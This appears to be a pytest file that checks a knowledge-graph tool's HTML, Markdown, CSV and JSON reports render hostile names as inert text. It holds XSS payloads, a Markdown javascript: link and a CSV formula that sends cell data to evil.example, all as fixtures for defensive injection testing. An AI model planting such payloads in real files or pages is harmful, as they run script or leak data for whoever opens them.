"""Hostile strings in the data are text in the report's HTML page too (issue 15's HTML part):
a real Chromium opens report.html built from the explorer's hostile fixture; no dialog fires,
nothing runs, each string reads back exactly as text (a source's title and publisher in the
Sources list too), and no javascript: link exists."""

from __future__ import annotations

from explorer_support import (
    BROWSER_ARGS,
    HOSTILE_ALIAS,
    HOSTILE_FILES,
    HOSTILE_NAME,
    Recorder,
    chromium_path,
    write_data,
)


def test_the_report_shows_hostile_strings_as_text_and_runs_nothing(tmp_path):
    from playwright.sync_api import sync_playwright

    from kg import load_graph
    from kg.analysis.report import write_report

    chromium = chromium_path()
    data = write_data(tmp_path, HOSTILE_FILES)
    built = load_graph(data)
    out = tmp_path / "report"
    write_report(built.semantics, out)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert HOSTILE_NAME not in html  # escaped in the file itself
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=BROWSER_ARGS)
        try:
            page = browser.new_context(offline=True).new_page()
            rec = Recorder(page)
            page.goto((out / "report.html").resolve().as_uri())
            page.wait_for_load_state("load")
            text = page.inner_text("body")
            cells = page.eval_on_selector_all("td, li, p, h1, h2, h3",
                                              "els => els.map(e => e.textContent)")
            hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
            scripts = page.eval_on_selector_all("script", "els => els.length")
            injected = page.eval_on_selector_all("img[src='x'], svg", "els => els.length")
            # the hostile source's entry in the Sources list, which its citations link to
            entry = page.eval_on_selector_all("li#src-src-evil", "els => els.map(e => e.textContent)")
            cites = page.eval_on_selector_all("a[href='#src-src-evil']", "els => els.length")
        finally:
            browser.close()
    assert rec.dialogs == [] and rec.errors == []
    assert scripts == 0 and injected == 0
    assert HOSTILE_NAME in text  # the organisation's name, shown as the characters it is
    assert any(HOSTILE_NAME in c for c in cells)
    assert not [h for h in hrefs if h.lower().startswith("javascript:")]
    assert "<script>alert(2)" not in html and HOSTILE_ALIAS not in html
    assert entry == [f"src-evil: {HOSTILE_NAME}. {HOSTILE_ALIAS}, 2026-01-20. Reliability: low. "
                     "No link or identifier in the data."]
    assert cites >= 1


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_report_md_and_csv_neither_run_html_nor_formulas(tmp_path):
    """A maintainer's trial: report.md wrote a name "<script>..." as it was (HTML that a
    renderer letting HTML through would run), and the report's CSV files wrote a name
    '=HYPERLINK(...)' as it was (a formula Excel would run). Markdown now has "&lt;" and
    the CSV a "'" first; the JSON keeps every value exact."""
    import csv
    import json

    import yaml

    from kg import load_graph
    from kg.analysis.report import write_report

    files = {**HOSTILE_FILES, "organization/formula.yaml": yaml.safe_dump({
        "id": "formula", "name": FORMULA_NAME, "org_type": "company", "country": "china",
        "partners": ["deepseek", "hostile"], "sources": ["src-evil"]})}
    out = tmp_path / "report"
    write_report(load_graph(write_data(tmp_path, files)).semantics, out,
                 formats=("md", "csv", "json"))
    md = (out / "report.md").read_text(encoding="utf-8")
    import re

    # every "<" of a tag is "&lt;" or backslash-escaped ("\\<": the Sources list's way)
    assert not re.search(r"(?<!\\)<(img|script|/script|svg)", md)
    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # shown as the characters it is
    names = [row["entity"] for row in csv.DictReader(
        (out / "centrality.csv").open(encoding="utf-8"))]
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names
    assert HOSTILE_NAME in names  # text that is no formula is as it was
    for path in out.glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            assert not [c for c in row if c[:1] in ("=", "+", "@")], path.name
    tables = json.loads((out / "report.json").read_text(encoding="utf-8"))["tables"]
    assert FORMULA_NAME in {r["entity"] for r in tables["centrality"]}


MARKDOWN_NAME = "[x](javascript:alert(8)) *em* `code` ~~gone~~ _u_"


def test_report_md_shows_markdown_in_names_as_text(tmp_path):
    """A maintainer's trial: a name "[x](javascript:alert(8))" was a live link in report.md
    and "*em*" emphasis ("|" and "<" were escaped; report.html was fine). Every table cell
    and paragraph of report.md now has Markdown's inline syntax backslash-escaped."""
    import re

    import yaml

    from kg import load_graph
    from kg.analysis.report import write_report

    files = {**HOSTILE_FILES, "organization/markdown.yaml": yaml.safe_dump({
        "id": "markdown", "name": MARKDOWN_NAME, "org_type": "company", "country": "china",
        "partners": ["deepseek", "hostile"], "sources": ["src-evil"]})}
    out = tmp_path / "report"
    write_report(load_graph(write_data(tmp_path, files)).semantics, out, formats=("md",))
    md = (out / "report.md").read_text(encoding="utf-8")
    escaped = r"\[x\](javascript:alert(8)) \*em\* \`code\` \~\~gone\~\~ \_u\_"
    assert MARKDOWN_NAME not in md
    assert md.count(escaped) >= 2  # in the tables (centrality, ...)
    # no link to anything but a source's entry, a file written beside it or an http(s) page
    targets = re.findall(r"(?<!\\)\]\(([^)]*)", md)
    beside = {p.name for p in out.iterdir()}
    assert targets and all(t.startswith(("#", "http")) or t in beside
                           for t in targets), targets
    assert not re.search(r"(?<!\\)\*em(?<!\\)\*", md)
